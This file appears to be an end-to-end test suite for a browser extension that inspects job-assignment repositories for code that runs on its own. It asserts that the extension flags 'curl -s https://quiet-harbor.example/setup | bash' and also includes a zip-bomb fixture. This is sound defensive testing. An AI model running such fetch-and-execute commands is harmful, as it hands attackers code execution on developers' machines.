import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'fflate';
import { packTar } from 'modern-tar';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lookAtPopup, openWindow, waitForState } from '../../scripts/demo/page-state.mts';
import { levelOn } from '../../scripts/demo/report-step.mts';
import { browserKinds } from '../../utils/cli/browser/browser-kind.ts';
import { buildWithSites, type BuildCopy } from '../../utils/cli/browser/build-with-sites.ts';
import type { Fixture } from '../../utils/cli/browser/fixture-server.ts';
import { launch, type Browser } from '../../utils/cli/browser/launch.ts';
import { locked, ordinary, packed, trap } from './assignments.ts';
import { harshWeb, threadAddress } from './harsh-pages.ts';
import { isWarned, textOf } from './stage.ts';

const zip = (body: Uint8Array): Fixture => ({ type: 'application/zip', body });
const page: Fixture = { body: '<!doctype html><html lang="en"><head><link rel="icon" href="data:,"><title>shop</title></head><body>A repository</body></html>' };
/** What the thread in harsh-pages.ts asks to run, and what the page comes with. */
const asked = 'harborlight-ledger-example/python-pre-employment-test';
const linked = 'https://gitlab.com/quiet/web/shop';
/** Stands in for the hosts: what each answers to the public address of an archive. */
const answers: Readonly<Record<string, Fixture>> = {
  [`codeload.github.com/${asked}/zip/HEAD`]: zip(packed(trap)),
  'codeload.github.com/quiet/plain/zip/feature/cart': zip(packed({ ...ordinary, '.gitmodules': '[submodule "pay"]\n\tpath = lib/pay\n', '.gitattributes': '.vscode export-ignore\n' })),
  'codeload.github.com/quiet/busy/zip/HEAD': { status: 429, body: '' },
  'codeload.github.com/quiet/vast/zip/HEAD': { headers: { 'content-length': '100000001' }, body: packed(ordinary) },
  'codeload.github.com/quiet/moved/zip/HEAD': { status: 302, headers: { location: 'https://elsewhere.example/a.zip' }, body: '' },
  'gitlab.com/api/v4/projects/quiet%2Fweb%2Fshop/repository/archive.zip?sha=HEAD': zip(packed(trap)),
  'bitbucket.org/quiet/shop/get/HEAD.zip': zip(packed(trap)),
  'elsewhere.example/a.zip': zip(packed(ordinary)),
};
const sites = ['codeload.github.com', 'github.com', 'gitlab.com', 'bitbucket.org'];
const isPage = (host: string, path: string) => ['github.com', 'gitlab.com'].includes(host) && !path.startsWith('/api/');
/** What a host sends when it knows its visitor. */
const cookie = { 'set-cookie': 'visitor=known; Path=/; Secure; SameSite=None' };
const web = (host: string, path: string): Fixture | undefined => {
  const fixture = answers[host + path] ?? (isPage(host, path) ? page : harshWeb(host, path));
  return fixture && { ...fixture, headers: { ...fixture.headers, ...cookie } };
};

const words = (eye: Page) => eye.evaluate(() => document.querySelector('main')?.innerText ?? '');
/** Waits for the end of the work, and for a text. */
const shows = async (eye: Page, text: string): Promise<void> => {
  await expect.poll(async () => ((await eye.locator('progress').count()) > 0 ? '' : words(eye)), { timeout: 30_000 }).toContain(text);
};
const file = (name: string, bytes: Uint8Array) => ({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) });
const verdictOn = (eye: Page) => eye.evaluate(() => document.querySelector('article .level')?.className);
const packedTar = async (texts: Readonly<Record<string, string>>) =>
  gzipSync(await packTar(Object.entries(texts).map(([name, body]) => ({ header: { name: `shop/${name}`, size: new TextEncoder().encode(body).length }, body }))));

/** A single line that unpacks to a thousand times its size, behind many small files. Packing it takes a second. */
let packedBomb: Uint8Array | undefined;
const bomb = () => (packedBomb ??= packed({
  ...trap, ...Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`text/${i}.md`, 'A line.\n'])), 'line.js': 'a'.repeat(60_000_000),
}));

/** Playwright cannot choose a folder in Firefox: its files are put where Firefox would. */
const chooseFolder = (files: readonly { path: string; text: string }[]) => {
  const chosen = new DataTransfer();
  for (const { path, text } of files) chosen.items.add(Object.defineProperty(new File([text], path.split('/').at(-1)!), 'webkitRelativePath', { value: path }));
  const input = document.querySelector<HTMLInputElement>('input[name=folder]')!;
  input.files = chosen.files;
  input.dispatchEvent(new Event('change', { bubbles: true }));
};

/** Longest time, in ms, that the page could do nothing else: turns of its loop are counted while it works. Machines under load take some by themselves. */
const longestGap = 1_000;
const watchTurns = `(() => { globalThis.longest = 0; let last = performance.now();
  (function turn() { const now = performance.now(); globalThis.longest = Math.max(globalThis.longest, now - last); last = now; setTimeout(turn, 10); })(); })()`;

/** Chromium's prompt cannot be answered without a person, so there the hosts stand in a copy of the manifest. Firefox grants what a click asks for. */
describe.each(browserKinds)('inspecting an assignment, in %s', (kind) => {
  let copy: BuildCopy | undefined;
  let browser: Browser;
  let folder: string;
  /** Opening a page of the extension takes Firefox seconds: most tests share one. */
  let eye: Page;
  let other: Page;
  const choose = async (name: string, bytes: Uint8Array, end = name) => {
    await eye.locator('input[name=archive]').setInputFiles(file(name, bytes));
    await shows(eye, end);
  };
  const lookAt = async (address: string, end: string) => {
    await eye.bringToFront();
    await eye.locator('input[name=repository]').fill(address);
    await eye.locator('form button').click();
    await shows(eye, end);
  };
  const store = (work: string): Promise<unknown> => other.evaluate(`chrome.storage.local.${work}`);

  beforeAll(async () => {
    copy = kind === 'chromium' ? await buildWithSites(kind, sites) : undefined;
    browser = await launch({ kind, extension: copy?.folder, fixtures: web });
    folder = await mkdtemp(join(tmpdir(), 'bonafide-assignment-'));
    for (const [path, text] of Object.entries(trap)) {
      await mkdir(dirname(join(folder, path)), { recursive: true });
      await writeFile(join(folder, path), text);
    }
    other = await openWindow(browser);
    eye = await browser.openExtensionPage(`inspect.html?repository=${encodeURIComponent(linked)}`);
  });
  afterAll(async () => {
    await browser?.stop();
    await copy?.remove();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  it('fetches nothing before it is asked to', async () => {
    expect(await eye.locator('input[name=repository]').inputValue()).toBe(linked);
    expect(browser.sent()).toEqual([]);
  });

  it('says of a chosen archive what would start, and where', async () => {
    await choose('shop-task.zip', packed(trap));
    expect(await verdictOn(eye)).toContain('danger');
    const said = await words(eye);
    for (const part of ['curl -s https://quiet-harbor.example/setup | bash', 'node ./assets/load.js', 'node server.js', '.vscode/tasks.json:2', 'assets/load.js:5']) expect(said).toContain(part);
    expect(await eye.locator('.tree .tag').count()).toBeGreaterThan(2);
    expect(said).not.toMatch(/\bsafe\b/i);
    expect(browser.sent().filter(({ host }) => host.endsWith('.example'))).toEqual([]);
  });

  it('leads to the result, and from a place to its file', async () => {
    expect(await eye.evaluate(() => document.activeElement?.localName)).toBe('article');
    expect(await eye.locator('[role=status]').textContent()).toBe(await textOf(eye, 'inspect.finished'));
    const place = eye.locator('button.where').first();
    const [, name] = /([^/]+):\d+$/.exec((await place.textContent())!)!;
    await place.press('Enter');
    await expect.poll(() => eye.evaluate(() => document.activeElement?.querySelector('bdi')?.textContent)).toBe(name);
  });

  it('says of an ordinary archive no more than that nothing was found', async () => {
    await choose('plain.zip', packed(ordinary));
    expect(await verdictOn(eye)).toContain('none');
    const said = await words(eye);
    for (const key of ['inspect.levelText.none', 'inspect.neverPackages', 'inspect.throwaway']) expect(said).toContain(await textOf(eye, key));
  });

  it('reads a chosen folder', async () => {
    if (kind === 'chromium') await eye.locator('input[name=folder]').setInputFiles(folder);
    else await eye.evaluate(chooseFolder, Object.entries(trap).map(([path, text]) => ({ path: `shop/${path}`, text })));
    await shows(eye, 'assets/load.js:5');
    expect(await verdictOn(eye)).toContain('danger');
  });

  it('takes what is dropped', async () => {
    await eye.evaluate((bytes) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([new Uint8Array(bytes)], 'dropped.tar.gz'));
      document.querySelector('.drop')!.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
    }, [...(await packedTar(trap))]);
    await shows(eye, 'dropped.tar.gz');
    expect(await verdictOn(eye)).toContain('danger');
  });

  it.each([
    ['notes.zip', new TextEncoder().encode('These are no bytes of an archive.'), 'notes.zip is damaged'],
    ['task.7z', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4), '.7z archive, which is not read here. Unpack it'],
    ['locked.zip', locked(ordinary), 'password-protected: nothing inside could be checked'],
    ['cut.zip', packed(trap).slice(0, 700), 'cut off: the end is missing'],
  ])('has a clear sentence for %s', async (name, bytes, sentence) => {
    await choose(name, bytes, sentence);
    expect(await words(eye)).not.toContain(await textOf(eye, 'inspect.levelText.none'));
  });

  it('stays at hand while it reads an archive packed like a bomb, and tells of the rest', async () => {
    await eye.evaluate(watchTurns);
    await choose('bomb.zip', bomb(), 'packed like a bomb');
    expect(await words(eye)).toContain('assets/load.js:5');
    expect(await eye.evaluate('globalThis.longest')).toBeLessThan(longestGap);
  });

  it('downloads what it is asked to, and says nothing of the person', async () => {
    const before = browser.sent().length;
    await lookAt(linked, 'gitlab.com/quiet/web/shop');
    await lookAt('https://bitbucket.org/quiet/shop/src/main/../', 'bitbucket.org/quiet/shop');
    expect(await verdictOn(eye)).toContain('danger');
    await lookAt(`https://github.com/${asked}`, `github.com/${asked}`);
    const sent = browser.sent().slice(before);
    expect(sent.map(({ host }) => host)).toEqual(['gitlab.com', 'bitbucket.org', 'codeload.github.com']);
    for (const { headers } of sent) {
      expect([headers.cookie, headers.authorization, headers.referer, headers.origin]).toEqual([undefined, undefined, undefined, undefined]);
      // GitLab refuses what says that it comes from another site's script.
      expect(headers['sec-fetch-mode']).toBe('same-origin');
    }
    const again = browser.sent().length;
    await lookAt(`https://github.com/${asked}/tree/HEAD`, `github.com/${asked}`);
    expect(browser.sent().slice(again).map(({ headers }) => headers.cookie)).toEqual([undefined]);
  });

  it('finds a branch with slashes, and tells what a clone would bring besides', async () => {
    await lookAt('https://github.com/quiet/plain/tree/feature/cart', 'lib/pay');
    expect(await verdictOn(eye)).toContain('none');
    expect(await words(eye)).toContain('named to be left out of archives');
  });

  it.each([['quiet/away', 'gone'], ['quiet/busy', 'limited'], ['quiet/vast', 'large'], ['quiet/moved', 'elsewhere']])('has a clear sentence for %s', async (path, refusal) => {
    await lookAt(`https://github.com/${path}`, await textOf(eye, `inspect.refused.${refusal}`));
    expect(browser.sent().filter(({ host }) => host === 'elsewhere.example')).toEqual([]);
  });

  it('makes the message that linked what was found a proof, whose popup leads here', async () => {
    const tab = await browser.newPage(threadAddress('asked'));
    const { tabId, state } = await waitForState(other, (seen) => levelOn(seen) === 'danger');
    expect(state.items.flatMap(({ judgement }) => judgement.verdict.findings.map(({ rule }) => rule))).toContain('code-inspected-and-dangerous');
    const label = await textOf(other, 'inspect.lookInside');
    await lookAtPopup(browser, tabId, (popup) => popup.evaluate((name) => {
      for (const button of document.querySelectorAll('button')) if (button.textContent === name) button.click();
    }, label));
    await expect.poll(() => other.evaluate(`chrome.tabs.query({}).then((tabs) => tabs.map(({ url }) => url ?? '').join(' '))`))
      .toContain(`inspect.html?repository=${encodeURIComponent(`https://github.com/${asked}`)}`);
    tab.close().catch(() => {});
  });

  it('clears nobody', async () => {
    const judge = (url: string) => other.evaluate(async (links) => {
      const { chrome } = globalThis as unknown as { chrome: { runtime: { sendMessage(message: object): Promise<{ ok: { verdict: object } }> } } };
      const message = { text: 'I am a recruiter at Harborlight. We have a job opening for you. Here is the task.' };
      return (await chrome.runtime.sendMessage({ ask: 'judge', body: { surface: 'gmail', sender: { name: 'Elin Marwick', email: 'elin@harborlight-hr.example' }, message, links } })).ok.verdict;
    }, [{ url }]);
    const looked = JSON.stringify(await judge('https://github.com/quiet/plain')).replaceAll('quiet/plain', 'quiet/other');
    expect(looked).toBe(JSON.stringify(await judge('https://github.com/quiet/other')));
  });

  it('keeps no name of what was inspected', async () => {
    const kept = JSON.stringify(await store('get()'));
    expect(kept).toContain('"inspected"');
    expect(kept).not.toMatch(/quiet|trap|github|harborlight|load\.js/i);
  });

  it('says on the repository\'s own page what was found, and on others nothing', async () => {
    if (kind === 'firefox') {
      await lookAt(`https://github.com/${asked}`, await textOf(eye, 'inspect.throwaway'));
      await eye.locator('article .actions button').click();
      await eye.waitForTimeout(500);
    }
    const tab = await browser.newPage(`https://github.com/${asked}/issues`);
    await expect.poll(() => isWarned(tab), { timeout: 8_000 }).toBe(true);
    expect(await tab.evaluate(() => document.documentElement.lastElementChild!.shadowRoot)).toBeNull();
    await tab.evaluate(() => { history.pushState({}, '', '/quiet/never-looked'); document.body.append(document.createElement('p')); });
    await expect.poll(() => isWarned(tab), { timeout: 8_000 }).toBe(false);
    await store('set({ placement: "toolbar" })');
    await tab.goto(`https://github.com/${asked}`);
    await tab.waitForTimeout(800);
    expect(await isWarned(tab)).toBe(false);
    await store('set({ placement: "inline" })');
  });
});
